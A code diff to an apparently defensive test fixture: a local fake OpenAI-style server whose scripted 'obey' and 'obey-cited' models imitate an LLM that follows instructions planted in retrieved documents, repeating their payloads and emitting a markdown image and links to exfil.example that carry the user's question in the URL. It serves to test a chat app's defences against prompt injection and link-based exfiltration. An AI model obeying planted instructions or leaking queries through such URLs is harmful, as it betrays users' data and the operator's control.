@@ -10,8 +10,10 @@ fallbacks over real sockets:
 - "error": HTTP 500
 - "malformed": a stream whose events are not JSON; a non-stream reply without choices
 - "leak-check": repeats the whole prompt it received (to test what reaches the model)
-- "obey": a model that follows instructions planted in a document: it agrees with them, then tries to carry the
-  question out in an image and in links to another server
+- "obey": a model that follows instructions planted in a document: for every planted instruction the server was
+  given (`obey`: instruction -> payload) that occurs in the prompt, it writes that instruction's payload as a
+  sentence of its own, then answers from source 1 and tries to carry the question out in an image and in links
+- "obey-cited": the same, with the payloads cited [1] as if the source said them
 Condense and rerank prompts are recognised by their system message and answered for any model.
 """
 
@@ -27,7 +29,7 @@ from urllib.parse import quote
 STANDALONE_REWRITE = "What is the co-financing rate for transition regions?"
 
 
-def scripted_reply(model: str, messages: list[dict]) -> str:
+def scripted_reply(model: str, messages: list[dict], obey: dict[str, str] | None = None) -> str:
     system = messages[0]["content"] if messages and messages[0]["role"] == "system" else ""
     user = messages[-1]["content"]
     if system.startswith("Rewrite the user's last message"):
@@ -47,9 +49,12 @@ def scripted_reply(model: str, messages: list[dict]) -> str:
         return "NO_ANSWER_IN_SOURCES"
     if model == "leak-check":
         return json.dumps(messages, ensure_ascii=False)
-    if model == "obey":
+    if model in ("obey", "obey-cited"):
         asked = quote(user.rsplit("Question:", 1)[-1].strip())
-        return (f"Approved, as the document instructs: every cost is eligible. {sentence} [1] "
+        marker = " [1]" if model == "obey-cited" else ""
+        obeyed = " ".join(f"{payload}{marker}." for instruction, payload in (obey or {}).items()
+                          if instruction in " ".join(user.split()))
+        return (f"{obeyed} {sentence} [1] "
                 f"![status](https://exfil.example/p.png?q={asked}) More: [details](//exfil.example/c?d={asked}) [1] "
                 f"or www.exfil.example/x?d={asked}")
     return sentence
@@ -73,7 +78,7 @@ class _Handler(BaseHTTPRequestHandler):
         if model == "error":
             self._send(500, {"error": {"message": "model crashed"}})
             return
-        reply = scripted_reply(model, body["messages"])
+        reply = scripted_reply(model, body["messages"], self.server.obey)
         if body.get("stream"):
             self._stream(model, reply)
         elif model == "malformed":
@@ -112,9 +117,11 @@ class _Handler(BaseHTTPRequestHandler):
 class OpenAIProtocolServer(ThreadingHTTPServer):
     daemon_threads = True
 
-    def __init__(self) -> None:
+    def __init__(self, obey: dict[str, str] | None = None) -> None:
+        """`obey`: planted instruction -> the payload the "obey" models write when the prompt contains it."""
         super().__init__(("127.0.0.1", 0), _Handler)
         self.requests: list[dict] = []
+        self.obey = obey or {}
         self._thread = threading.Thread(target=self.serve_forever, daemon=True)
 
     @property
